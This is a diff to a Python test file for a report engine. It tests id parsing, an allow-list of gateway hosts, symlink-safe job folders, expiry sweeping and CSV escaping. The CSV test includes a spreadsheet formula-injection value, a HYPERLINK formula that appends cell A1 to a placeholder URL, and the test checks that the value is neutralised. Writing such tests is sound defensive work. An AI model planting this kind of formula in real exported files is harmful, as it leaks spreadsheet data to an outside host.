@@ -1,13 +1,25 @@
 """How the embedded engine reads what a gateway sends it, quirks included."""
 
+import os
 from pathlib import Path
 
 import httpx
 import pytest
 
-from app.engine.files import ReportTable, find_file, write_files
+from app.engine.files import (
+    UNRECORDED_KEEP,
+    FolderRecord,
+    claim_folder,
+    find_file,
+    read_record,
+    sweep,
+    write_files,
+)
 from app.engine.gateway import JobGateway, api_base
 from app.engine.job import JobRequest
+from app.engine.params import read_ids
+from app.engine.sites import SitePolicy
+from app.engine.writers import ReportTable, csv_value
 from app.errors import NetworkError, UsageError
 from app.serve import bind_loopback
 
@@ -88,7 +100,8 @@ def test_the_token_never_shows_in_a_job_s_text() -> None:
 
 def test_files_are_found_only_by_digits_and_a_strict_name(tmp_path: Path) -> None:
     table = ReportTable("idling", "Idling Usage", ["vid"], [{"vid": 1}])
-    names = write_files(tmp_path / "3" / "4", table, ["csv", "json"])
+    folder = claim_folder(tmp_path, "3", "4", FolderRecord(SITE_A, 0.0, 1.0))
+    names = write_files(folder, table, ["csv", "json"])
     (tmp_path / "3" / "4" / "notes.txt").write_text("not a report file")
     (tmp_path / "3" / "4" / "link.csv").symlink_to(tmp_path / "3" / "4" / "idling.csv")
     outside = tmp_path / "elsewhere.csv"
@@ -116,14 +129,14 @@ def test_files_are_found_only_by_digits_and_a_strict_name(tmp_path: Path) -> Non
 
 
 def test_running_a_job_again_replaces_its_files(tmp_path: Path) -> None:
-    folder = tmp_path / "41" / "7"
+    folder = claim_folder(tmp_path, "41", "7", FolderRecord(SITE_A, 0.0, 1.0))
     table = ReportTable("trips", "Trips", ["vid"], [{"vid": 1}])
     write_files(folder, table, ["csv", "xlsx"])
 
     names = write_files(folder, table, ["json"])
 
     assert names == ["trips.json"]
-    assert sorted(p.name for p in folder.iterdir()) == ["trips.json"]
+    assert sorted(p.name for p in folder.iterdir()) == [".job.json", "trips.json"]
 
 
 @pytest.mark.asyncio
@@ -141,3 +154,176 @@ async def test_an_unreachable_gateway_gives_a_plain_message() -> None:
         f"rawdata request failed: could not reach http://127.0.0.1:{port}/api "
         "(ConnectError)"
     )
+
+
+# ---- ids ------------------------------------------------------------------
+
+
+def test_ids_may_be_whole_numbers_written_as_floats() -> None:
+    assert read_ids("vehicles", [1, 2.0, 30.0]) == (1, 2, 30)
+    assert read_ids("groups", None) == ()
+
+
+@pytest.mark.parametrize("bad", [1.5, "2", True, None, float("nan"), [1], 1e300])
+def test_anything_else_as_an_id_is_refused_naming_the_field(bad: object) -> None:
+    with pytest.raises(UsageError, match=r"parameter 'groups/1' must be a whole"):
+        read_ids("groups", [4, bad])
+
+
+# ---- which gateways the engine calls ---------------------------------------
+
+
+@pytest.mark.parametrize(
+    "site_url",
+    [
+        "http://127.0.0.1:8765",
+        "http://127.0.0.1:8765/api/",
+        "http://127.8.9.1:80",
+        "http://localhost:9/api",
+        "https://LOCALHOST",
+        "http://[::1]:8765",
+    ],
+)
+def test_gateways_on_this_computer_are_always_allowed(site_url: str) -> None:
+    assert SitePolicy().allows(site_url)
+
+
+@pytest.mark.parametrize(
+    "site_url",
+    [
+        "https://gateway.invalid",
+        "http://0.0.0.0:8765",
+        "http://localhost.gateway.invalid",
+        "http://10.0.0.8",
+        "ftp://127.0.0.1",
+        "http://127.0.0.1:99999",
+        "not a url",
+    ],
+)
+def test_other_gateways_are_refused_unless_allowed(site_url: str) -> None:
+    assert not SitePolicy().allows(site_url)
+
+
+def test_an_allowed_site_matches_with_or_without_api_and_slash() -> None:
+    policy = SitePolicy(["https://gw.invalid/api/"])
+
+    assert policy.allows("https://gw.invalid")
+    assert policy.allows("https://GW.invalid:443/api")
+    assert not policy.allows("http://gw.invalid")  # another scheme and port
+    assert not policy.allows("https://gw.invalid:8443")
+    assert not policy.allows("https://gw.invalid/other")
+    with pytest.raises(UsageError, match="--allow-site"):
+        SitePolicy(["gw.invalid"])
+
+
+# ---- job folders: records, links, expiry ------------------------------------
+
+SITE_A = "http://127.0.0.1:8001/api"
+SITE_B = "http://127.0.0.1:8002/api"
+
+
+def record(site: str = SITE_A, created_at: float = 1000.0) -> FolderRecord:
+    return FolderRecord(site, created_at=created_at, expires=100.0)
+
+
+def make_job(root: Path, site_id: str, job_id: str, site: str = SITE_A) -> Path:
+    folder = claim_folder(root, site_id, job_id, record(site))
+    table = ReportTable("idling", "Idling Usage", ["vid"], [{"vid": 1}])
+    write_files(folder, table, ["csv"])
+    return folder
+
+
+def test_a_job_from_another_site_with_the_same_ids_replaces_the_folder(
+    tmp_path: Path,
+) -> None:
+    folder = make_job(tmp_path, "1", "5", SITE_A)
+    (folder / "notes.txt").write_text("left by site A")
+
+    again = claim_folder(tmp_path, "1", "5", record(SITE_A))
+    assert (again / "idling.csv").exists()  # the same gateway: kept
+    claim_folder(tmp_path, "1", "5", record(SITE_B))
+
+    assert sorted(p.name for p in folder.iterdir()) == [".job.json"]
+    assert read_record(folder) == record(SITE_B)
+    assert find_file(tmp_path, "1", "5", "idling.csv") is None
+
+
+def test_links_to_folders_outside_are_neither_served_nor_written_through(
+    tmp_path: Path,
+) -> None:
+    root, outside = tmp_path / "files", tmp_path / "outside"
+    (outside / "5").mkdir(parents=True)
+    (outside / "5" / "idling.csv").write_text("secret")
+    (outside / "901").mkdir()
+    (outside / "901" / "idling.csv").write_text("secret")
+    (root / "1").mkdir(parents=True)
+    (root / "1" / "901").symlink_to(outside / "901")  # a linked job folder
+    (root / "2").symlink_to(outside)  # a linked site folder
+
+    assert find_file(root, "1", "901", "idling.csv") is None
+    assert find_file(root, "2", "5", "idling.csv") is None
+
+    for site_id, job_id in (("1", "901"), ("2", "5")):
+        make_job(root, site_id, job_id)
+        assert not (root / site_id).is_symlink()
+        assert not (root / site_id / job_id).is_symlink()
+        assert find_file(root, site_id, job_id, "idling.csv") is not None
+    assert (outside / "5" / "idling.csv").read_text() == "secret"
+    assert (outside / "901" / "idling.csv").read_text() == "secret"
+
+
+def test_a_files_folder_reached_through_a_link_still_works(tmp_path: Path) -> None:
+    real = tmp_path / "real-files"
+    real.mkdir()
+    (tmp_path / "files").symlink_to(real)
+
+    make_job(tmp_path / "files", "1", "5")
+
+    assert find_file(tmp_path / "files", "1", "5", "idling.csv") == (
+        real / "1" / "5" / "idling.csv"
+    )
+
+
+def test_sweep_removes_expired_jobs_only(tmp_path: Path) -> None:
+    expired = make_job(tmp_path, "1", "5")  # expires at 1100
+    running = make_job(tmp_path, "1", "6")
+    fresh = claim_folder(tmp_path, "1", "7", record(created_at=5000.0))
+    unrecorded = tmp_path / "2" / "8"
+    unrecorded.mkdir(parents=True)
+    outside = tmp_path / "outside"
+    (outside / "9").mkdir(parents=True)
+    (tmp_path / "3").symlink_to(outside)  # a link is never swept through
+    os.utime(outside / "9", (0, 0))
+
+    removed = sweep(tmp_path, now=2000.0, running={("1", "6")})
+
+    assert removed == 1
+    assert not expired.exists()
+    assert [p.exists() for p in (running, fresh, unrecorded)] == [True] * 3
+    assert (outside / "9").exists()
+
+    # With no record, a folder is kept a week after its last change.
+    os.utime(unrecorded, (1000.0, 1000.0))
+    assert sweep(tmp_path, now=1000.0 + UNRECORDED_KEEP + 1) == 3
+    assert not (tmp_path / "2").exists()  # its emptied site folder too
+    assert (outside / "9").exists()
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ('=HYPERLINK("http://x"&A1,"Van 1")', '\'=HYPERLINK("http://x"&A1,"Van 1")'),
+        ("+1", "'+1"),
+        ("-Van", "'-Van"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("Van = 1", "Van = 1"),
+        (-70.5, -70.5),
+        (0, 0),
+        (None, ""),
+        (True, "true"),
+    ],
+)
+def test_csv_cells_never_start_a_formula(value: object, cell: object) -> None:
+    assert csv_value(value) == cell
